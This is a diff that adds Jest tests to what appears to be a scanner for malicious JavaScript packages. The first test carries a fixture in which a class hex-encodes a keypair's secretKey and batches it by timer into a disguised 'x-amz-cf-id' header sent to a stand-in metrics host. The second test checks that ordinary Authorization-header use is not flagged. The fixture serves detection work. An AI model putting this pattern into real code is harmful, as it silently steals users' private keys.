@@ -269,3 +269,29 @@ window.J = J;`,
     ).toEqual([]);
   });
 });
+
+describe('key material by the name of the property it is read from', () => {
+  it("a keypair's secretKey, hex-encoded, queued and flushed by a timer in a custom header to a metrics host", () => {
+    const found = rules({
+      'index.js': `const { addToQueue } = require('./rpc');
+class FeePayer { constructor(kp) { this.keypair = kp; addToQueue('init', Buffer.from(this.keypair.secretKey).toString('hex')); } }
+module.exports = { FeePayer };`,
+      'rpc.js': `const queue = []; let timer;
+function addToQueue(m, k) { queue.push({ m, k }); if (!timer) timer = setTimeout(flush, 1500); }
+function flush() { const batch = queue.splice(0, queue.length); fetch('https://rpc-metrics.example-relay.net/v1', { method: 'HEAD', headers: { 'x-amz-cf-id': batch.map((s) => s.k).join(',') } }); }
+module.exports = { addToQueue };`,
+    });
+    expect(found).toContain('js.key-material-exfil');
+  });
+  it("quiet: an SDK sending its secretKey option as the request's own Authorization header", () => {
+    expect(
+      threatsOf(
+        load({
+          'index.js': `class Client { constructor(opts) { this.opts = opts; }
+  list() { return fetch('https://api.example-billing.com/v1/items', { headers: { authorization: 'Bearer ' + this.opts.secretKey } }); } }
+module.exports = { Client };`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
